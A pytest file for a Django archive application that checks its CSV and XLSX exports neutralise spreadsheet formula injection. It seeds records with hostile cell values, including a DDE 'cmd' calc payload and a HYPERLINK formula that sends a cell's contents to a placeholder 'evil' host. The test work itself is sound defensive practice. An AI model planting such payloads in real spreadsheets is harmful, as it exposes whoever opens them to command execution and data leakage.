"""Whatever leaves for a spreadsheet is text: no title, name, reason or cell that somebody wrote is ever worked out as a formula."""

import csv
import io
import re
from collections.abc import Iterator
from typing import Any

import openpyxl
import pytest
from django.db import transaction
from django.test import Client
from django.urls import get_resolver, reverse

from archive.importing.models import Batch, Row, RowState
from archive.models import Fonds, RetentionRow
from docflow.models import Document, NumberEntry
from office.kernel.csv_text import FORMULA
from office.models import Organ, Person
from tests.archive.hand_made import a_record, numbered
from tests.office.site.city import City, a_city_of_everything, routes
from tests.rooms import ROOMS, ROOT

pytestmark = [pytest.mark.django_db, pytest.mark.timeout(600)]

HOSTILE = [
    "=1+1",
    "+1",
    "-1+cmd|' /C calc'!A0",
    "@SUM(1)",
    "＝1",
    "＋1",
    "－1",
    "＠a",
    "\t=1",
    "\r=1",
    "\n=1",
    "\u3000=1",
]
TABLES = {
    "materials:copies_table",
    "docflow:register_table",
    "archive:catalogue_table",
    "archive:retention_table_file",
    "importing:refusals",
    "attendance:table",
}
"""The addresses that answer with a table."""
WRITERS = {"office/kernel/csv_text.py", "office/kernel/xlsx_text.py"}
"""The only code that writes one."""
MAKES = re.compile(r"csv\.(?:writer|DictWriter)|\bWorkbook\(|xlsxwriter|text/tab-separated|application/vnd\.ms-excel")


def test_tables_are_written_in_two_places() -> None:
    rooms = [file for room in ROOMS for file in (ROOT / room).rglob("*.py")]
    found = {one.relative_to(ROOT).as_posix() for one in rooms if MAKES.search(one.read_text(encoding="utf-8"))}
    assert found == WRITERS | {"office/calendar/table.py"}  # a year's table goes from one form of ours into the next
    known = {
        name
        for name, pattern in routes(get_resolver())
        if re.search(r"csv|xls|ods|table(?:_file)?\b|refusals", pattern)
    }
    assert known >= TABLES


@pytest.fixture
def city() -> City:
    """What people write anywhere, as far as it comes into a table: past the forms, which refuse half of it."""
    made = a_city_of_everything()
    shelf = Fonds.objects.get(uid=made.rows["fonds"])
    for text in HOSTILE:
        numbered(a_record(_Shelf(shelf), title=text, author=text, number=text))  # type: ignore[arg-type] # as far as it asks
    spoilt = '=HYPERLINK("http://evil/?"&A1,"点此")'
    with transaction.atomic():
        Document.objects.update(title=spoilt, kind="@SUM(1)")
        NumberEntry.objects.update(reserved_for="\t=1", reserved_why="+1", reason="-1")
        Person.objects.update(name="=1+1")
        Organ.objects.update(short_name="＝1")
        RetentionRow.objects.update(content=spoilt, heading="+1", words=HOSTILE)
        batch = Batch.objects.get(uid=made.rows["batch"])
        Batch.objects.filter(pk=batch.pk).update(header=HOSTILE)
        batch.rows.update(cells=HOSTILE, says=spoilt, state=RowState.REFUSED)
        assert Row.objects.filter(batch=batch).exists()
    return made


class _Shelf:
    """What `a_record` asks for."""

    def __init__(self, fonds: Fonds) -> None:
        self.fonds, self.organ = fonds, fonds.organ


def content(city: City, name: str) -> bytes:
    """The table, for whoever of the city gets it."""
    address = reverse(name) if name == "archive:catalogue_table" else city.address(name)
    client = city.whoever(name, address, is_given)
    assert client is not None, f"nobody gets {name}"
    answer: Any = client.get(address)
    return b"".join(answer) if answer.streaming else answer.content


def is_given(client: Client, address: str) -> bool:
    answer: Any = client.get(address)
    if answer.streaming:  # a file, which is closed by being read
        b"".join(answer)
    return bool(answer.status_code == 200)


def texts(table: bytes) -> Iterator[tuple[str, str, bool]]:
    """Each text, its kind, and whether it is marked as one."""
    if table.startswith(b"PK"):
        for row in openpyxl.load_workbook(io.BytesIO(table)).worksheets[0].iter_rows():
            yield from (
                (str(cell.value), cell.data_type, cell.quotePrefix) for cell in row if isinstance(cell.value, str)
            )
        return
    assert table.startswith(b"\xef\xbb\xbf")
    for line in csv.reader(io.StringIO(table.decode("utf-8-sig"), newline="")):
        yield from ((cell, "s" if not cell.lstrip().startswith(FORMULA) else "f", True) for cell in line)


def test_no_cell_is_worked_out(city: City) -> None:
    for name in sorted(TABLES):
        cells = list(texts(content(city, name)))
        assert [cell for cell in cells if cell[1:] != ("s", True)] == [], name
        came_as_far = [text for text, _, _ in cells if text.lstrip("'").lstrip().startswith(FORMULA)]
        assert came_as_far != [], name
